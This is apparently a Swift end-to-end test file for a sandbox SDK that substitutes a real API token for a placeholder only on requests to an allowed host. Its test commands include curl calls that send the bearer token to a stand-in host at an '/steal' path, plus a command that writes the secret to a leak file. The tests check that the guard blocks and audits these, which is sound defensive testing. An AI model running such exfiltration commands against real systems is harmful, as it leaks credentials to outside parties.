import Foundation
import KeyholeLauncher
import Testing

/// The Swift SDK drives a real sandbox (the builtin guest, TCG here) through the example
/// program in `examples/sandbox-run`, in the launcher's namespace internet: create, run
/// several commands in the same guest, read their output and status, stop; nothing left.
@Suite("SDK end to end", .serialized, .enabled(if: isRoot, "needs root for namespaces, TAP and QEMU"))
struct SDKEndToEndTests {
    static let example = CLI.root + "/examples/sandbox-run/.build/debug/sandbox-run"
    static let realValue = "sdk-real-token-0042"

    @Test func theExampleProgramCreatesRunsAndStopsASandbox() throws {
        try #require(
            FileManager.default.isExecutableFile(atPath: Self.example),
            "build the example first: make examples (swift build --package-path examples/sandbox-run)")
        try LauncherEndToEndTests.image.get()
        let harness = try ProxyHarness(mode: .launcher)
        defer { harness.close() }
        let launcher = LauncherEndToEndTests()
        let api = try harness.upstream("203.0.113.10", port: 443, cert: "api.example.test")
        let other = try harness.upstream("203.0.113.11", port: 443, cert: "other.example.test")
        let before = try harness.appliance("nft list ruleset; iptables-nft-save | grep -v '^#'").stdout
        let runDirectory = LauncherEndToEndTests.state + "/run"
        let runDirectoriesBefore = Set((try? FileManager.default.contentsOfDirectory(atPath: runDirectory)) ?? [])
        let first = "echo \"guest sees TOKEN=$TOKEN\"; echo kept > /root/state; echo first-stderr >&2"
        let second = """
            cat /root/state
            curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" https://api.example.test/sdk; echo
            curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" https://other.example.test/steal || echo "blocked $?"
            exit 5
            """
        // (The second command's status, 5, is replaced by the third's refusal: exit 1.)
        let out = harness.directory + "/sdk.out", err = harness.directory + "/sdk.err"
        let arguments = [
            "ip", "netns", "exec", harness.applianceNamespace, "env", "TOKEN=\(Self.realValue)", Self.example,
            "--state-dir", LauncherEndToEndTests.state, "--name", "sdk\(harness.shortID)", "--upstream-ca", harness.directory + "/upca.pem",
            "--audit-log", harness.auditLog, "TOKEN", "api.example.test", "--", "sh", "-c", first, "--", "sh", "-c", second,
            // A command that would carry the real value into the guest is refused before it is sent.
            "--", "sh", "-c", "echo \(Self.realValue) > /root/leak",
        ]
        let line = "exec " + arguments.map(harness.shellQuote).joined(separator: " ") + " >\(out) 2>\(err)"
        let process = try harness.spawn("/bin/sh", ["-c", line], stdout: harness.directory + "/sdk.sh.out")
        harness.processes.append(process)
        let deadline = Date().addingTimeInterval(150)
        while process.isRunning, Date() < deadline { usleep(50_000) }
        let stdout = launcher.text(out), stderr = launcher.text(err)
        #expect(!process.isRunning, "still running:\n\(stdout)\n\(stderr)")
        #expect(process.terminationStatus == 1, "stdout:\n\(stdout)\nstderr:\n\(stderr)")
        #expect(stderr.contains("the command holds the real value of secret 'TOKEN'; pass the placeholder"), "\(stderr)")
        // Both commands ran in one guest: the file the first wrote is there for the second.
        #expect(stdout.contains("guest sees TOKEN=$MSB_TOKEN\nkept\nok\n"), "\(stdout)\n\(stderr)")
        #expect(stdout.contains("blocked"), "\(stdout)")
        #expect(stderr.contains("first-stderr") && !stdout.contains("first-stderr"))
        // The allowed API got the real value; the other host got nothing; the audit says so.
        let records = harness.records(api)
        #expect(records.count == 1)
        #expect(harness.header(records.first ?? [:], "Authorization") == "Bearer \(Self.realValue)")
        #expect(harness.records(other).isEmpty)
        #expect(stderr.contains("substituted 1") && stderr.contains("violation 1"), "\(stderr)")
        let audit = launcher.text(harness.auditLog)
        #expect(audit.contains("\"event\":\"violation\"") && audit.contains("\"level\":\"warn\""))
        for text in [stdout, stderr, audit] { #expect(!text.contains(Self.realValue)) }
        try launcher.expectCleanedUp(harness, rulesBefore: before)
        // This sandbox's run directory (initrd, console, the agent socket that runs commands)
        // is the owner's alone, and holds no socket or initrd once stopped.
        // (Other suites' sandboxes may come and go in the same state directory meanwhile: only
        // this sandbox's directory counts.)
        let ours = (Launcher.runDirectory(stateDirectory: LauncherEndToEndTests.state, sandbox: "sdk\(harness.shortID)") as NSString).lastPathComponent
        let runFiles = Set((try? FileManager.default.contentsOfDirectory(atPath: runDirectory)) ?? []).subtracting(runDirectoriesBefore)
            .filter { $0 == ours }
        #expect(runFiles.count == 1, "\(runFiles), ours \(ours)")
        for directory in runFiles {
            let mode = (try? FileManager.default.attributesOfItem(atPath: runDirectory + "/" + directory)[.posixPermissions] as? Int) ?? nil
            #expect(mode == 0o700, "\(directory): \(String(mode ?? -1, radix: 8))")
            let left = (try? FileManager.default.contentsOfDirectory(atPath: runDirectory + "/" + directory)) ?? []
            #expect(!left.contains("agent.sock") && !left.contains("initrd"), "\(directory): \(left)")
        }
    }

    /// `Appliance.builder(interface:)` through the example's `--appliance` mode: the drop-in
    /// appliance from Swift in front of a guest namespace, then gone without a trace.
    @Test func theExampleProgramGuardsAnInterfaceWithTheApplianceBuilder() throws {
        try #require(FileManager.default.isExecutableFile(atPath: Self.example), "build the example first: make examples")
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let api = try harness.upstream("203.0.113.10", port: 443, cert: "api.example.test")
        let other = try harness.upstream("203.0.113.11", port: 443, cert: "other.example.test")
        let rules = "nft list ruleset; iptables-nft-save | grep -v '^#'; ip6tables-nft-save | grep -v '^#'"
        let before = try harness.appliance(rules).stdout
        let out = harness.directory + "/appliance.out", err = harness.directory + "/appliance.err"
        let arguments = [
            "ip", "netns", "exec", harness.applianceNamespace, "env", "TOKEN=\(Self.realValue)", Self.example, "--appliance", harness.guestInterface,
            "--gateway", "10.0.2.1/30", "--state-dir", harness.stateDirectory, "--upstream-ca", harness.directory + "/upca.pem",
            "--audit-log", harness.auditLog, "TOKEN", "api.example.test",
        ]
        let process = try harness.spawn("/usr/bin/env", arguments, stdout: out, stderr: err)
        harness.processes.append(process)
        try harness.waitFor(file: err, containing: "guarding")
        let launcher = LauncherEndToEndTests()
        #expect(launcher.text(out) == "TOKEN=$MSB_TOKEN\n")
        let ok = try harness.guestCurl("https://api.example.test/sdk-appliance", "-H 'Authorization: Bearer $MSB_TOKEN'")
        #expect(ok.stdout == "ok\n", "\(ok.all)\n\(launcher.text(err))")
        #expect(harness.header(harness.records(api).first ?? [:], "Authorization") == "Bearer \(Self.realValue)")
        let blocked = try harness.guestCurl("https://other.example.test/steal", "-H 'Authorization: Bearer $MSB_TOKEN'")
        #expect(blocked.status != 0 && harness.records(other).isEmpty)
        kill(process.processIdentifier, SIGTERM)
        let deadline = Date().addingTimeInterval(15)
        while process.isRunning, Date() < deadline { usleep(50_000) }
        #expect(!process.isRunning && process.terminationStatus == 0, "\(launcher.text(err))")
        #expect(launcher.text(err).contains("substituted 1") && launcher.text(err).contains("violation 1"), "\(launcher.text(err))")
        #expect(try harness.appliance(rules).stdout == before)
        for text in [launcher.text(out), launcher.text(err), harness.audit] { #expect(!text.contains(Self.realValue)) }
    }
}
